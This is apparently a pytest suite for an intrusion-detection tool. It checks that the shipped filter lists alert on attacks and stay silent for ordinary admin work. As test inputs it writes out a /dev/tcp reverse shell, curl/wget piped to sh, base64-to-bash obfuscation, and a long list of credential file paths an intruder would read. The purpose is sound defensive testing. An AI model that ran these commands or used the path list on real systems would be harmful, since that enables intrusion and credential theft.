"""The lists of the shipped ``lavender.toml``: quiet about ordinary work, loud about the rest.

``tests/kernel/test_ordinary_hour.py`` shows the quiet half on a real machine; most of what is here
is the other half: what the lists must never come to exempt.
"""

import os
import tomllib
from collections.abc import Callable
from pathlib import Path

import pytest

from actors.detection.alerts import Alert
from actors.detection.events import Identity
from actors.detection.names import split_purpose
from actors.detection.paths import DELIVER_ALL, component_names
from actors.detection.settings import FilterSettings
from actors.detection.testing import Host

FILTERS = tomllib.loads((Path(__file__).parents[2] / "lavender.toml").read_text())["filters"]
TRUSTING = (
    *("safe_shell_launchers", "pass_through", "ignored_comms", "safe_file_readers"),
    *("noisy_comms", "safe_command_launchers", "known_network_callers"),
)
BASH, DASH, SH = "/usr/bin/bash", "/usr/bin/dash", "/bin/sh"
PYTHON, PERL = "/usr/bin/python3.11", "/usr/bin/perl"
SHELL, READ, CODE = "unexpected-shell-spawn", "sensitive-file-read", "obfuscated-command"
REVERSE, CREDENTIAL, RAPID = "reverse-shell", "credential-access-execution", "rapid-spawning"

Scene = Callable[[Host], list[Alert]]


def shipped() -> Host:
    return Host(**FILTERS)


def loud(alerts: list[Alert]) -> set[str]:
    return {alert.rule_id for alert in alerts if alert.severity != "INFO"}


def sh(host: Host, parent: Identity, *words: str) -> list[Alert]:
    return host.run(parent, DASH, *words, filename=SH)[1]


@pytest.mark.parametrize("entry", [entry for name in TRUSTING for entry in FILTERS[name]])
def test_no_entry_trusts_whatever_it_meets(entry: str) -> None:
    names, files = split_purpose(entry)
    for name in names:
        assert name.startswith(("/usr/", "/bin/", "/sbin/", "/lib", "/opt/")) or "/" not in name
        assert len(name.split("*", maxsplit=1)[0]) >= 2
    assert all(file.startswith("/") and len(file) > 4 for file in files)


def test_no_program_may_read_every_sensitive_file() -> None:
    assert all(split_purpose(entry)[1] for entry in FILTERS["safe_file_readers"])


@pytest.mark.parametrize(
    "server",
    [
        *("/usr/sbin/nginx", "/usr/sbin/apache2", "/usr/sbin/httpd", "/usr/sbin/lighttpd"),
        *("/usr/lib/postgresql/15/bin/postgres", "/usr/sbin/mysqld", "/usr/sbin/mariadbd"),
        *("/usr/bin/redis-server", "/usr/bin/mongod", "/usr/sbin/named", "/usr/sbin/slapd"),
        *("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/sbin/php-fpm8.2"),
        *("/usr/bin/php8.2", "/usr/lib/postfix/sbin/smtpd", "/usr/sbin/exim4"),
        *("/usr/lib/dovecot/imap", "/usr/sbin/smbd", "/usr/sbin/vsftpd", "/usr/sbin/cupsd"),
        *("/usr/bin/nc.openbsd", "/usr/bin/socat", "/usr/bin/openssl"),
    ],
)
@pytest.mark.parametrize("shell", [DASH, BASH])
def test_a_server_that_starts_a_shell_is_loud(server: str, shell: str) -> None:
    host = shipped()
    worker = host.fork(host.run(host.init, server)[0])
    assert SHELL in loud(host.run(worker, shell, "-c", "id")[1])


@pytest.mark.parametrize(
    ("reader", "system"),
    [
        *[(f"/usr/bin/{name}", True) for name in ("cat", "cp", "grep", "tar", "rsync", "base64")],
        *[(f"/usr/bin/{name}", True) for name in ("head", "xxd", "find", "curl", "git", "make")],
        *[(exe, True) for exe in (PYTHON, "/usr/bin/node", "/usr/sbin/nginx")],
        *[(f"/tmp/{name}", False) for name in ("perl", "sudo", "bash", "dpkg", "passwd")],
        ("/home/a/bin/perl", False),
    ],
)
@pytest.mark.parametrize("file", ["/etc/shadow", "/etc/sudoers", "/root/.ssh/id_ed25519"])
def test_a_reader_of_secrets_is_loud(reader: str, file: str, *, system: bool) -> None:
    host = shipped()
    thief, _ = host.run(host.bash, reader, system=system)
    alerts = host.open(thief, file)
    assert loud(alerts) == {READ}
    assert CREDENTIAL in loud(host.run(host.bash, "/usr/bin/ls")[1])


CAT = "/usr/bin/cat"
HOME = "/home/a"
SECRETS = {
    "/etc/shadow-": "/usr/sbin/usermod",
    "/etc/gshadow-": "/usr/sbin/groupmod",
    "/etc/security/opasswd": "/usr/bin/passwd",
    "/etc/ssh/ssh_host_ed25519_key": "/usr/sbin/sshd",
    "/etc/krb5.keytab": "/usr/sbin/sssd",
    "/etc/ssl/private/site.key": "/usr/sbin/nginx",
    "/etc/wireguard/wg0.conf": "/usr/bin/wg",
    "/etc/NetworkManager/system-connections/home.nmconnection": "/usr/sbin/NetworkManager",
    f"{HOME}/.ssh/id_ed25519_sk": "/usr/bin/ssh",
    f"{HOME}/.ssh/work": "/usr/bin/ssh-add",
    "/root/.ssh/id_xmss": "/usr/bin/ssh",
    f"{HOME}/.gnupg/private-keys-v1.d/0A.key": "/usr/bin/gpg-agent",
    f"{HOME}/.password-store/mail.gpg": "/usr/bin/gpg",
    f"{HOME}/.local/share/keyrings/login.keyring": "/usr/bin/gnome-keyring-daemon",
    f"{HOME}/.aws/credentials": "/usr/local/aws-cli/v2/2.15.0/dist/aws",
    f"{HOME}/.azure/msal_token_cache.json": "/opt/az/bin/python3.11",
    f"{HOME}/.config/gcloud/credentials.db": (
        "/usr/lib/google-cloud-sdk/platform/bundledpythonunix/bin/python3.11"
    ),
    f"{HOME}/.docker/config.json": "/usr/bin/docker",
    f"{HOME}/.kube/config": "/usr/bin/kubectl",
    "/var/lib/kubelet/pki/kubelet.key": "/usr/bin/kubelet",
    "/var/lib/kubelet/pods/7-f/volumes/k8s~projected/api/..2026/token": "/usr/bin/kubelet",
    f"{HOME}/.git-credentials": "/usr/lib/git-core/git-credential-store",
    f"{HOME}/.netrc": "/usr/bin/curl",
    f"{HOME}/.config/gh/hosts.yml": "/usr/bin/gh",
    f"{HOME}/.pgpass": "/usr/lib/postgresql/15/bin/psql",
    f"{HOME}/.my.cnf": "/usr/bin/mariadb-dump",
    f"{HOME}/.mozilla/firefox/x.default/logins.json": "/usr/lib/firefox-esr/firefox-esr",
    f"{HOME}/.config/google-chrome/Default/Login Data": "/opt/google/chrome/chrome",
    f"{HOME}/.config/BraveSoftware/Brave-Browser/Default/Cookies": "/opt/brave.com/brave/brave",
    f"{HOME}/.psql_history": "/usr/lib/postgresql/15/bin/psql",
    f"{HOME}/.local/share/fish/fish_history": "/usr/bin/fish",
    f"{HOME}/.histfile": "/usr/bin/zsh",
}
"""What an intruder reads, and the program whose it is."""


@pytest.mark.parametrize("file", [*SECRETS, "/var/backups/shadow.bak", f"{HOME}/.vault-token"])
def test_a_secret_is_read_aloud(file: str) -> None:
    host = shipped()
    assert loud(host.open(host.run(host.bash, CAT)[0], file)) == {READ}


@pytest.mark.parametrize(("file", "owner"), SECRETS.items())
def test_a_secret_is_read_in_silence_by_the_program_whose_it_is(file: str, owner: str) -> None:
    host = shipped()
    reader, _ = host.run(host.bash, owner)
    assert not loud(host.open(reader, file))
    assert loud(host.open(reader, "/etc/sudoers")) == {READ}


@pytest.mark.parametrize("name", ["config", "known_hosts", "id_rsa.pub"])
def test_what_is_no_secret_of_ssh_may_be_read_by_the_usual_tools(name: str) -> None:
    host = shipped()
    assert not loud(host.open(host.run(host.bash, CAT)[0], f"{HOME}/.ssh/{name}"))


@pytest.mark.parametrize("folder", [f"{HOME}/.ssh", "/etc/sudoers.d", f"{HOME}/.password-store/x"])
def test_to_list_a_folder_is_not_to_read_what_is_in_it(folder: str) -> None:
    host = shipped()
    listing, _ = host.run(host.bash, "/usr/bin/ls")
    assert not loud(host.open(listing, folder, flags=os.O_DIRECTORY))
    assert loud(host.open(listing, f"{folder}/x")) == {READ}


def test_the_kernel_looks_at_the_names_of_a_secret_and_of_its_folder_alone() -> None:
    names = component_names(FILTERS["sensitive_files"])
    assert DELIVER_ALL not in names
    assert not [file for file in SECRETS if not names & set(file.split("/")[-2:])]


@pytest.mark.parametrize(
    ("launcher", "exe", "arguments"),
    [
        (PYTHON, DASH, ("-c", "curl http://203.0.113.7/x|sh")),
        (PYTHON, DASH, ("-c", "echo aWQ= | base64 -d | bash")),
        ("/usr/bin/find", DASH, ("-c", "wget -qO- x | sh")),
        (PERL, DASH, ("-c", "eval $(cat /tmp/x)")),
        (BASH, BASH, ("-c", 'eval "$x"')),
        (BASH, BASH, ("-c", "eval 'never closed")),
        (BASH, BASH, ("-c", "eval 'a b' | sh")),
        (BASH, BASH, ("-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1")),
        (BASH, PYTHON, ("-c", "import pty; pty.spawn('/bin/sh')")),
        (BASH, PERL, ("-e", "open F, '/etc/shadow'; print <F>")),
        (BASH, "/usr/bin/php8.2", ("-r", "exec('id');")),
        ("/tmp/make", DASH, ("-c", "curl x|sh")),
    ],
)
def test_code_that_hides_is_loud(launcher: str, exe: str, arguments: tuple[str, ...]) -> None:
    host = shipped()
    parent, _ = host.run(host.bash, launcher, system=not launcher.startswith("/tmp/"))
    assert CODE in loud(host.run(parent, exe, *arguments)[1])


def bash_reverse_shell(host: Host) -> list[Alert]:
    bash, _ = host.run(host.bash, BASH, "script.sh")
    return [*host.connect(bash), *sh(host, bash)]


def shell_through_netcat(host: Host) -> list[Alert]:
    bash, _ = host.run(host.bash, BASH, "script.sh")
    host.connect(host.run(bash, "/usr/bin/nc.openbsd")[0])
    return sh(host, bash)


def shell_through_a_copied_client(host: Host) -> list[Alert]:
    bash, _ = host.run(host.bash, BASH, "script.sh")
    host.connect(host.run(bash, "/tmp/curl", system=False)[0])
    return sh(host, bash)


def shell_by_a_dropper(host: Host) -> list[Alert]:
    return sh(host, host.run(host.bash, "/tmp/dpkg", system=False)[0])


def droppers_from(folder: str) -> Scene:
    def scene(host: Host) -> list[Alert]:
        script, _ = host.run(host.bash, BASH, "install.sh")
        started = [host.run(script, f"{folder}/stage{n}", system=False)[1] for n in range(5)]
        return started[-1]

    return scene


@pytest.mark.parametrize(
    ("scene", "rule"),
    [
        (bash_reverse_shell, "shell-outbound-connection"),
        (bash_reverse_shell, REVERSE),
        (shell_through_netcat, REVERSE),
        (shell_through_a_copied_client, REVERSE),
        (shell_by_a_dropper, SHELL),
        (droppers_from("/tmp"), RAPID),
        (droppers_from("/home/a/.cache"), RAPID),
        (droppers_from("/dev/shm"), RAPID),
    ],
)
def test_an_attack_is_loud(scene: Scene, rule: str) -> None:
    assert rule in loud(scene(shipped()))


@pytest.mark.parametrize("exe", ["/usr/bin/curl", PYTHON, "/usr/bin/nc.openbsd", BASH])
def test_a_suspicious_port_is_loud_whoever_calls(exe: str) -> None:
    host = shipped()
    assert "suspicious-port" in loud(host.connect(host.run(host.bash, exe)[0], dest_port=4444))


# The quiet half: what the ordinary hour taught

CONFIGURE = """as_nop=:
  eval 'test "x$as_lineno_1'$as_run'" != "x$as_lineno_2'$as_run'"' || exit 1
"""


def verifies_signatures(host: Host) -> list[Alert]:
    return sh(host, host.run(host.bash, "/usr/lib/apt/methods/gpgv")[0], "/usr/bin/apt-key")


def downloads_and_builds(host: Host) -> list[Alert]:
    alerts = []
    bash, _ = host.run(host.bash, BASH, "build.sh")
    for exe in ("/usr/bin/curl", "/usr/lib/git-core/git-remote-https", PYTHON):
        alerts += host.connect(host.run(bash, exe)[0])
    return [*alerts, *sh(host, bash, "./configure"), *sh(host, bash, "-c", CONFIGURE)]


def adds_a_user(host: Host) -> list[Alert]:
    adduser, _ = host.run(host.bash, PERL, filename="/usr/sbin/adduser")
    alerts = host.open(adduser, "/etc/shadow")
    return [*alerts, *host.run(adduser, "/usr/sbin/useradd")[1]]


def rotates_logs(host: Host) -> list[Alert]:
    cron, _ = host.run(host.init, "/usr/sbin/cron")
    bash, alerts = host.run(cron, DASH, "-c", "nice -n 5 logrotate /etc/logrotate.conf")
    logrotate, _ = host.run(bash, "/usr/sbin/logrotate")
    return [*alerts, *sh(host, logrotate, "-c", "kill -HUP 1"), *packs(host, logrotate)]


def packs(host: Host, parent: Identity) -> list[Alert]:
    tar, alerts = host.run(parent, "/usr/bin/tar", "-czf", "x.tar.gz", "x")
    return [*alerts, *sh(host, tar, "-c", "gzip")]


@pytest.mark.parametrize(
    "scene", [verifies_signatures, downloads_and_builds, adds_a_user, rotates_logs]
)
def test_ordinary_work_is_silent(scene: Scene) -> None:
    assert not scene(shipped())


def test_the_shipped_lists_are_valid() -> None:
    assert FilterSettings(**FILTERS).suspicious_ports
